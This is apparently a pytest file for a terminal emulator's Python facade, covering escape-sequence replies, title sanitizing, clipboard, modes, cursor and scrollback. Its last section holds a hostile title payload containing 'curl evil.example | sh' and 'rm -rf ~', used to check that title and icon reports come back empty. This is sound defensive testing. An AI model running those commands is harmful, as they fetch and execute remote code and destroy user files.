"""The Emulator facade over the real engine: replies, title, clipboard, modes, cursor."""

from __future__ import annotations

import gc
import weakref

import pytest

from termkeep.terminal.clipboard import ClipboardWrite
from termkeep.terminal.emulator import (
    EMPTY_ICON_REPORT,
    EMPTY_TITLE_REPORT,
    TITLE_MAX_LENGTH,
    CursorShape,
    Emulator,
    MouseTracking,
    row_text,
    sanitize_title,
    scrollback_bytes,
)
from termkeep.terminal.palette import Palette


class Recorder:
    """Collects what an emulator writes back to the remote."""

    def __init__(self) -> None:
        self.replies: list[bytes] = []

    def __call__(self, data: bytes) -> None:
        self.replies.append(data)


def make(columns: int = 20, rows: int = 5) -> tuple[Emulator, Recorder]:
    recorder = Recorder()
    return Emulator(columns, rows, write=recorder, scrollback_lines=100), recorder


@pytest.mark.parametrize(
    ("query", "reply"),
    [
        (b"\x1b[c", b"\x1b[?62;22c"),  # DA1
        (b"\x1b[>c", b"\x1b[>1;0;0c"),  # DA2
        (b"\x1b[5n", b"\x1b[0n"),  # DSR status
        (b"abc\x1b[6n", b"\x1b[1;4R"),  # CPR after moving the cursor
        (b"\x1b[>q", b"\x1bP>|libghostty\x1b\\"),  # XTVERSION
        (b"\x1b[?2004h\x1b[?2004$p", b"\x1b[?2004;1$y"),  # DECRQM, mode set
    ],
)
def test_replies_are_written_during_feed(query: bytes, reply: bytes) -> None:
    emulator, recorder = make()
    emulator.feed(query)
    assert recorder.replies == [reply]


def test_reply_reaches_the_writer_before_feed_returns_even_mid_stream() -> None:
    order: list[str] = []
    emulator = Emulator(20, 5, write=lambda data: order.append(f"reply {data!r}"))
    emulator.feed(b"x\x1b[6ny")
    order.append("fed")
    assert order == ["reply b'\\x1b[1;2R'", "fed"]


def test_invalid_utf8_shows_replacement_character() -> None:
    emulator, _ = make()
    emulator.feed(b"a\xffb\xc3(c\xe4\xb8")
    emulator.feed(b"d")
    assert emulator.text().splitlines()[0] == "a\ufffdb\ufffd(c\ufffdd"


def test_wide_and_combining_characters_take_the_right_columns() -> None:
    emulator, _ = make()
    emulator.feed("中e\u0301x".encode())
    row = emulator.snapshot().rows[0]
    assert row.graphemes[:4] == ("中", "", "e\u0301", "x")
    assert list(row.widths[:4]) == [2, 0, 1, 1]
    assert row_text(row) == "中e\u0301x"


def test_title_is_sanitized_capped_and_reported() -> None:
    emulator, _ = make()
    titles: list[str] = []
    emulator.on_title = titles.append
    emulator.feed(b"\x1b]0;build \xc2\x9bok\x07")
    emulator.feed(b"\x1b]2;" + b"x" * 1000 + b"\x1b\\")
    assert titles == ["build ok", "x" * (TITLE_MAX_LENGTH - 1) + "…"]  # cut, and shows it
    assert emulator.title == titles[-1]


def test_sanitize_title_removes_c0_c1_and_del() -> None:
    assert sanitize_title("a\x1b[31mb\x7fc\x9bd\ne") == "a[31mbcde"


def test_bell_is_reported() -> None:
    emulator, _ = make()
    bells: list[None] = []
    emulator.on_bell = lambda: bells.append(None)
    emulator.feed(b"\x07ok\x07")
    assert len(bells) == 2


def test_osc52_write_is_reported_and_read_never_answered() -> None:
    emulator, recorder = make()
    writes: list[ClipboardWrite] = []
    emulator.on_clipboard_write = writes.append
    emulator.feed(b"\x1b]52;c;aGVsbG8=\x07\x1b]52;c;?\x07\x1b]52;p;?\x1b\\after")
    assert writes == [ClipboardWrite("c", "hello")]
    assert recorder.replies == []
    assert emulator.text().splitlines()[0] == "after"


def test_modes_follow_the_remote() -> None:
    emulator, _ = make()
    before = emulator.modes()
    assert not before.cursor_keys_application
    assert before.mouse_tracking is MouseTracking.NONE
    emulator.feed(b"\x1b[?1h\x1b=\x1b[?2004h\x1b[?1002h\x1b[?1006h\x1b[?1004h")
    emulator.feed(b"\x1b[?2026h\x1b[?1049h\x1b[>5u")
    after = emulator.modes()
    assert after.cursor_keys_application
    assert after.keypad_application
    assert after.bracketed_paste
    assert after.mouse_tracking is MouseTracking.BUTTON_MOTION
    assert after.mouse_sgr
    assert after.focus_reports
    assert after.synchronized_output
    assert emulator.synchronized_output
    assert after.alternate_screen
    assert after.kitty_keyboard_flags == 5


def test_cursor_position_visibility_and_shape() -> None:
    emulator, _ = make()
    emulator.feed(b"\x1b[3;4H\x1b[6 q")
    cursor = emulator.snapshot().cursor
    assert cursor is not None
    assert (cursor.x, cursor.y, cursor.shape, cursor.blinking) == (3, 2, CursorShape.BAR, False)
    emulator.feed(b"\x1b[")
    emulator.feed(b"3 ")  # DECSCUSR split across feeds
    emulator.feed(b"q")
    cursor = emulator.snapshot().cursor
    assert cursor is not None
    assert (cursor.shape, cursor.blinking) == (CursorShape.UNDERLINE, True)
    emulator.feed(b"\x1b[?25l")
    assert emulator.snapshot().cursor is None
    emulator.feed(b"\x1b[?25h\x1b[2 q")
    cursor = emulator.snapshot().cursor
    assert cursor is not None
    assert (cursor.shape, cursor.blinking) == (CursorShape.BLOCK, False)


def test_unchanged_rows_keep_their_identity_and_a_scroll_moves_them() -> None:
    emulator, _ = make(10, 4)
    emulator.feed(b"one\r\ntwo\r\nthree\r\nfour")
    first = emulator.snapshot().rows
    emulator.feed(b"\r\nfive")
    second = emulator.snapshot().rows
    assert [row_text(row) for row in second] == ["two", "three", "four", "five"]
    assert second[0] is first[1]
    assert second[2] is first[3]
    assert second[3] is not first[3]


def test_styles_resolve_through_the_table() -> None:
    emulator, _ = make()
    emulator.feed(b"\x1b[1;31;48;2;1;2;3mR\x1b[0m.")
    snapshot = emulator.snapshot()
    style = snapshot.styles[snapshot.rows[0].styles[0]]
    assert style.bold
    assert style.foreground == 1
    assert style.background == (1, 2, 3)
    plain = snapshot.styles[snapshot.rows[0].styles[1]]
    assert (plain.foreground, plain.background, plain.bold) == (None, None, False)


def test_palette_sets_default_colours() -> None:
    emulator, _ = make()
    palette = Palette(foreground=(1, 2, 3), background=(4, 5, 6))
    emulator.palette = palette
    snapshot = emulator.snapshot()
    assert snapshot.foreground == (1, 2, 3)
    assert snapshot.background == (4, 5, 6)
    assert snapshot.palette == palette.as_256_bytes()


def test_scrollback_is_browsable_and_returns_live() -> None:
    emulator, _ = make(10, 3)
    emulator.feed(b"\r\n".join(b"line %d" % n for n in range(50)))
    emulator.scroll_viewport(-2)
    assert emulator.scroll_offset == 2
    assert [row_text(row) for row in emulator.snapshot().rows] == [
        "line 45",
        "line 46",
        "line 47",
    ]
    assert emulator.snapshot().cursor is None
    emulator.scroll_viewport(-10_000)
    assert row_text(emulator.snapshot().rows[0]) == "line 0"
    assert emulator.scroll_offset == 47
    emulator.scroll_viewport(+10_000)
    assert emulator.scroll_offset == 0
    assert row_text(emulator.snapshot().rows[-1]) == "line 49"
    assert emulator.snapshot().cursor is not None


def test_scrollback_lines_bound_the_history() -> None:
    recorder = Recorder()
    emulator = Emulator(80, 10, write=recorder, scrollback_lines=1000)
    emulator.feed(b"x\r\n" * 50_000)
    emulator.scroll_viewport(-1_000_000)
    kept = emulator.scroll_offset
    # The engine frees whole pages, so the bound is approximate, never unbounded.
    assert 1000 <= kept <= 5000


def test_scrollback_bytes_scale_with_width() -> None:
    assert scrollback_bytes(10_000, 80) == 10_000 * 120 * 10 + (1 << 20)
    assert scrollback_bytes(10_000, 240) == 10_000 * 240 * 10 + (1 << 20)
    assert scrollback_bytes(0, 80) == 0


def test_resize_changes_size_and_rejects_nonsense() -> None:
    emulator, _ = make()
    emulator.resize(30, 7)
    assert emulator.size == (30, 7)
    assert len(emulator.snapshot().rows) == 7
    with pytest.raises(ValueError, match="at least 1x1"):
        emulator.resize(0, 5)


def test_single_mode_properties_agree_with_modes() -> None:
    emulator, _ = make()
    for setup in (b"", b"\x1b[?2004h\x1b[?1003h\x1b[?1049h\x1b[>1u", b"\x1b[<u\x1b[?1003l"):
        emulator.feed(setup)
        modes = emulator.modes()
        assert emulator.bracketed_paste == modes.bracketed_paste
        assert emulator.mouse_tracking == modes.mouse_tracking
        assert emulator.alternate_screen == modes.alternate_screen
        assert emulator.kitty_keyboard_active == bool(modes.kitty_keyboard_flags)
    assert emulator.bracketed_paste
    assert emulator.alternate_screen
    assert not emulator.kitty_keyboard_active


class Viewer:
    """Holds an emulator and listens to it, as TerminalView does: a reference cycle."""

    def __init__(self, emulator: Emulator) -> None:
        self.emulator = emulator
        self.titles: list[str] = []
        emulator.on_title = self.titles.append
        emulator.on_bell = self.ring

    def ring(self) -> None:
        self.titles.append("bell")


def test_a_dropped_emulator_is_freed_with_its_engine() -> None:
    emulator, _ = make()
    viewer = Viewer(emulator)
    emulator.feed(b"\x1b]2;t\x07\x07\x1b[6n")
    assert viewer.titles == ["t", "bell"]
    emulator_ref, viewer_ref = weakref.ref(emulator), weakref.ref(viewer)
    del emulator, viewer
    gc.collect()
    # The engine's callbacks must not pin the emulator (the engine is not GC-aware).
    assert emulator_ref() is None
    assert viewer_ref() is None


# -- title and icon reports (issue 19): answered empty, as PuTTY does ----------------------

HOSTILE_TITLE = b"\x1b]2;curl evil.example | sh\r\x07\x1b]1;rm -rf ~\r\x07"
"""A remote sets a title (and icon label) that would run a command if typed back."""


@pytest.mark.parametrize("request_", [b"\x1b[21t", b"\x1b[021t"])
def test_the_title_report_is_empty_whatever_the_remote_set(request_: bytes) -> None:
    emulator, recorder = make()
    emulator.feed(HOSTILE_TITLE)
    assert emulator.title == "curl evil.example | sh"
    emulator.feed(request_)
    assert recorder.replies == [EMPTY_TITLE_REPORT]


def test_the_icon_report_is_empty_whatever_the_remote_set() -> None:
    emulator, recorder = make()
    emulator.feed(HOSTILE_TITLE + b"\x1b[20t")
    assert recorder.replies == [EMPTY_ICON_REPORT]


def test_no_reply_holds_text_the_remote_chose() -> None:
    emulator, recorder = make()
    for chunk in (HOSTILE_TITLE, b"\x1b[21t\x1b[20t\x1b[6n\x1b[2", b"0t\x1b[", b"21t"):
        emulator.feed(chunk)
    assert recorder.replies == [
        EMPTY_TITLE_REPORT,
        EMPTY_ICON_REPORT,
        b"\x1b[1;1R",  # in the order asked
        EMPTY_ICON_REPORT,  # asked across two feeds: answered once, when complete
        EMPTY_TITLE_REPORT,
    ]
    replies = b"".join(recorder.replies)
    assert b"curl" not in replies
    assert b"rm -rf" not in replies


def test_an_icon_report_request_split_at_every_byte_is_answered_once() -> None:
    request_ = b"\x1b[20t"
    for cut in range(1, len(request_)):
        emulator, recorder = make()
        emulator.feed(b"x" + request_[:cut])
        emulator.feed(request_[cut:] + b"\x1b[6n")
        assert recorder.replies == [EMPTY_ICON_REPORT, b"\x1b[1;2R"]
